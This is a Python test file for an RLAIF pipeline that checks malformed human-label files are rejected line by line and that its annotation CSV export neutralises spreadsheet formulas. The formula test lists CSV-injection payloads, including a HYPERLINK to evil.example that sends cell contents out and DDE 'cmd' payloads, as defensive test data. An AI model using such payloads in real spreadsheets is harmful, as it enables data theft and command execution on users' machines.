"""Label files from strangers: every bad row is a reject with its line and reason, the good rows are merged,
and nothing makes `merge-human` print a traceback. Plus the annotation CSV's formula neutralisation."""

from __future__ import annotations

import csv
import json

import datasets
import pytest
from click.testing import CliRunner

from rlaif.cli import main
from rlaif.human.read import read_labels

from tests.fakes import _annotate, _merge, _merged


def _rejects(run_dir):
    return {(r["file"].rsplit("/", 1)[-1], r["line"]): r["reason"]
            for r in map(json.loads, (run_dir / "human_rejects.jsonl").read_text().splitlines())}


def _ok(result):
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output


def test_trl_rows_with_bad_roles_or_contents_are_rejected(run_dir, tmp_path):
    rows = [
        {"prompt": "Name a colour.", "chosen": "Blue.", "rejected": "Seven."},                                      # 1 good
        {"prompt": "q2", "chosen": [{"role": "bot", "content": "x"}], "rejected": "y"},                               # 2 role
        {"prompt": "q3", "chosen": [{"role": "assistant", "content": 5}], "rejected": "y"},                           # 3 content
        {"prompt": [{"role": "user", "content": ["parts"]}], "chosen": "a", "rejected": "b"},                         # 4 content
        {"prompt": [{"role": "wizard", "content": "hi"}], "chosen": "a", "rejected": "b"},                            # 5 role
        {"prompt": "q6", "chosen": [{"role": "assistant", "content": "a"}, {"role": "user", "content": "b"}], "rejected": "c"},  # 6 last
        {"prompt": 7, "chosen": "a", "rejected": "b"},                                                                # 7 prompt
    ]
    f = tmp_path / "trl.jsonl"
    f.write_text("\n".join(map(json.dumps, rows)) + "\n")
    _ok(_merge(run_dir, f))
    got = _rejects(run_dir)
    assert "chosen[0]: a message needs a role" in got["trl.jsonl", 2]
    assert "chosen[0]: the content must be a string, got int" in got["trl.jsonl", 3]
    assert "prompt[0]: the content must be a string, got list" in got["trl.jsonl", 4]
    assert "prompt[0]: a message needs a role" in got["trl.jsonl", 5]
    assert "chosen: the last message must be from the assistant" in got["trl.jsonl", 6]
    assert "prompt: expected a string or a non-empty list" in got["trl.jsonl", 7]
    assert len(got) == 6
    human = [r for r in _merged(run_dir) if r["source"] == "human"]
    assert [r["chosen"][0]["content"] for r in human] == ["Blue."]  # merged.jsonl and merged/ hold the same one pair
    assert len([r for r in datasets.load_from_disk(str(run_dir / "merged")) if r["source"] == "human"]) == 1


def test_a_missing_labels_file_is_an_error(run_dir, tmp_path):
    result = _merge(run_dir, tmp_path / "nope.csv")
    assert result.exit_code == 2 and "nope.csv: labels file not found" in result.stderr
    assert "\n" not in result.stderr.strip()
    assert not (run_dir / "human_rejects.jsonl").exists()  # found before anything was written


def test_a_labels_file_that_is_a_device_is_refused(run_dir):
    result = _merge(run_dir, "/dev/zero")
    assert result.exit_code == 2 and "/dev/zero: labels file is not a regular file" in result.stderr


def test_bom_blank_lines_and_multiline_fields_keep_csv_lines(run_dir, tmp_path):
    rows, order = _annotate(run_dir, tmp_path)
    pid = rows[0]["pair_id"]
    text = ("pair_id,verdict,annotator,comment\n"            # 1
            f"{pid},a,ann1,fine\n"                             # 2 good
            "\n"                                                # 3 blank
            f"{pid},maybe,ann2,x\n"                            # 4 bad verdict
            f'{pid},a,ann3,"a comment\n\nover three lines"\n'  # 5-7 good
            f"{pid},sure,ann4,y\n")                            # 8 bad verdict
    f = tmp_path / "v.csv"
    f.write_bytes(b"\xef\xbb\xbf" + text.encode())  # Excel's "CSV UTF-8"
    _ok(_merge(run_dir, f))
    assert set(_rejects(run_dir)) == {("v.csv", 4), ("v.csv", 8)}
    assert {r["pair_id"]: r for r in _merged(run_dir)}[pid]["human_votes"] == 2


def test_non_utf8_inside_a_multiline_field_names_its_line(run_dir, tmp_path):
    rows, _ = _annotate(run_dir, tmp_path)
    pid = rows[0]["pair_id"]
    f = tmp_path / "v.csv"
    f.write_bytes(f'pair_id,verdict,annotator,comment\n{pid},a,x,"line one\ncaf\xe9"\n{pid},b,y,ok\n'.encode().replace(b"\xc3\xa9", b"\xe9"))
    _ok(_merge(run_dir, f))
    got = _rejects(run_dir)
    assert list(got) == [("v.csv", 3)] and "not UTF-8" in got["v.csv", 3]
    assert {r["pair_id"]: r for r in _merged(run_dir)}[pid]["human_votes"] == 1


def test_rows_the_parsers_choke_on(run_dir, tmp_path):
    rows, _ = _annotate(run_dir, tmp_path)
    pid = rows[0]["pair_id"]
    f = tmp_path / "v.jsonl"
    f.write_text("\n".join([
        json.dumps({"pair_id": pid, "verdict": "a", "annotator": "ok"}),         # 1 good
        '{"pair_id": ' + "[" * 100_000 + "]" * 100_000 + "}",                     # 2 nested too deeply
        '{"pair_id": "x", "verdict": "a", "n": 1' + "0" * 5000 + "}",             # 3 integer past 4,300 digits
        json.dumps({"pair_id": pid, "verdict": "b", "annotator": "long", "comment": "c" * 200_000}),  # 4 good
    ]) + "\n")
    long_csv = tmp_path / "long.csv"
    long_csv.write_text(f'pair_id,verdict,annotator,comment\n{pid},a,csv,"{"c" * 200_000}"\n')  # a field over 128 KiB
    _ok(_merge(run_dir, f, long_csv))
    got = _rejects(run_dir)
    assert "nested too deeply" in got["v.jsonl", 2] and "4300 digits" in got["v.jsonl", 3] and len(got) == 2
    assert {r["pair_id"]: r for r in _merged(run_dir)}[pid]["human_votes"] == 3


ARGILLA_BAD = [
    {"metadata": {"pair_id": "P"}, "responses": {"preference": 5}},                              # answers not a list
    {"metadata": "P", "responses": {"preference": [{"user_id": "u", "value": "a"}]}},             # metadata not a mapping
    {"fields": ["P"], "metadata": {}, "responses": {"preference": [{"value": "a"}]}},             # fields not a mapping
    {"metadata": {"pair_id": "P"}, "preference.responses": 5},                                    # flattened, not a list
    {"metadata": {"pair_id": "P"}, "preference.responses": ["a"], "preference.responses.users": "u"},
    {"metadata": {"pair_id": "P"}, "responses": {"preference": [{"user_id": "u", "value": [{"value": "a", "rank": "x"},
                                                                                           {"value": "b", "rank": 2}]}]}},
]


def test_argilla_rows_of_the_wrong_shape_are_rejects_with_their_lines(run_dir, tmp_path):
    rows, _ = _annotate(run_dir, tmp_path)
    pid = rows[0]["pair_id"]
    good = {"metadata": {"pair_id": pid}, "responses": {"preference": [{"user_id": "good", "value": "a"}]}}
    items = [json.loads(json.dumps(r).replace('"P"', json.dumps(pid))) for r in ARGILLA_BAD] + [good]
    f = tmp_path / "argilla.json"
    f.write_text('{"version": 2, "note": {"a": [1, 2]},\n "records": [\n' + ",\n".join(map(json.dumps, items)) + "\n]}\n")
    _ok(_merge(run_dir, f))
    got = _rejects(run_dir)
    assert sorted(line for _, line in got) == [3, 4, 5, 6, 7, 8]  # each record's own line in the file
    assert "responses.preference must be a list" in got["argilla.json", 3]
    assert "`metadata` must be a mapping" in got["argilla.json", 4] and "`fields` must be a mapping" in got["argilla.json", 5]
    assert "preference.responses must be a list" in got["argilla.json", 6]
    assert "preference.responses.users must be a list" in got["argilla.json", 7]
    assert "numeric ranks" in got["argilla.json", 8]
    assert {r["pair_id"]: r for r in _merged(run_dir)}[pid]["human_votes"] == 1


@pytest.mark.parametrize("doc, reason", [
    ({"records": 5}, r'holds a list of rows or {"records": [...]}, got records: int'),
    ("just a string", "got str"),
    ({"pair_id": "x"}, "got records: NoneType"),
])
def test_a_json_document_of_the_wrong_shape(run_dir, tmp_path, doc, reason):
    f = tmp_path / "a.json"
    f.write_text(json.dumps(doc))
    _ok(_merge(run_dir, f))
    got = _rejects(run_dir)
    assert list(got) == [("a.json", 1)] and reason in got["a.json", 1]


def test_json_list_rows_name_their_lines():
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as d:
        f = Path(d) / "l.json"
        f.write_text('[\n  {"pair_id": "p", "verdict": "a"},\n\n  {"pair_id": "p",\n   "verdict": "zzz"},\n  "no"\n]\n')
        votes, rejects = read_labels(f)
    assert [v.line for v in votes] == [2]
    assert [(r.line, r.reason[:15]) for r in rejects] == [(4, "invalid verdict"), (6, "not a verdict, ")]


# --- item 3: the annotation CSV is safe to open in a spreadsheet ----------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "'quoted already", "plain text", "a = b, fine"]


@pytest.fixture
def hostile_run(workdir, monkeypatch):
    from rlaif.backends import pool as models
    from rlaif.backends.base import Completion, Output

    from tests.conftest import write_pipeline
    from tests.fakes import BiasedJudge

    class Echo(BiasedJudge):
        """Answers with the prompt itself, so the responses start with the same hostile characters."""

        def generate(self, requests, progress=None):
            out = []
            for r, c in zip(requests, super().generate(requests, progress)):
                if "\n(A) " in (r.prompt or ""):  # a verdict
                    out.append(c)
                    continue
                text = r.prompt.rsplit("Human: ", 1)[-1].split("\n\nAssistant:")[0]
                out.append(Completion(tuple(Output(text + "!" * i, 1) for i in range(r.sampling.n)), 3))
            return out

    monkeypatch.setattr(models.ModelPool, "get", lambda self, cfg: Echo(position_bias=0.05))
    (workdir / "p.jsonl").write_text("\n".join(json.dumps({"prompt": t}) for t in HOSTILE) + "\n")
    stages = "stages:\n  respond: {n: 2}\n  judge: {}\n"
    pipe = write_pipeline(workdir / "p.yaml", "default", prompts="p.jsonl", stages=stages, limit=20)
    assert CliRunner().invoke(main, ["run", str(pipe)], catch_exceptions=False).exit_code == 0
    return workdir / "outputs" / "test"


def test_annotation_csv_neutralises_formulas_and_merge_reads_it_back(hostile_run, tmp_path):
    run_dir = hostile_run
    result = CliRunner().invoke(main, ["export", str(run_dir), "--for-annotation", str(tmp_path / "ann.csv")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with (tmp_path / "ann.csv").open(newline="", encoding="utf-8") as f:
        cells = list(csv.DictReader(f))
    raw = [json.loads(x) for x in (tmp_path / "ann.jsonl").read_text().splitlines()]
    assert [c["pair_id"] for c in cells] == [r["pair_id"] for r in raw]
    texts = 0
    for cell_row, raw_row in zip(cells, raw):
        for col in ("prompt", "response_a", "response_b"):
            cell, text = cell_row[col], raw_row[col]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell  # nothing a spreadsheet would run
            assert cell == ("'" + text if text[:1] in "=+-@\t\r'" else text)  # OWASP: a "'" in front, nothing else
            texts += text[:1] in "=+-@\t\r'"
    assert texts >= len(HOSTILE) - 2  # the prompts and answers really started with those characters
    # the JSONL keeps the raw text; reading the CSV back gives the raw text too, a leading "'" included
    from rlaif.human.annotate import from_spreadsheet

    assert [from_spreadsheet(c) | {"verdict": "", "annotator": "", "comment": ""} for c in cells] == raw
    assert any(r["prompt"].startswith("'quoted") for r in raw)
    # annotators fill the CSV in place (every cell as written); the votes land on the right pairs
    order = json.loads((run_dir / "annotation_order.json").read_text())
    for c in cells:
        c["verdict"], c["annotator"] = ("a" if order[c["pair_id"]]["a"] == "chosen" else "b"), "ann"  # agree with the AI
    with (tmp_path / "filled.csv").open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(cells[0]))
        w.writeheader()
        w.writerows(cells)
    _ok(_merge(run_dir, tmp_path / "filled.csv"))
    assert (run_dir / "human_rejects.jsonl").read_text() == ""
    agreement = json.loads((run_dir / "human_agreement.json").read_text())["overall"]
    assert agreement["pairs"] == len(cells) and agreement["agreement"] == 1.0
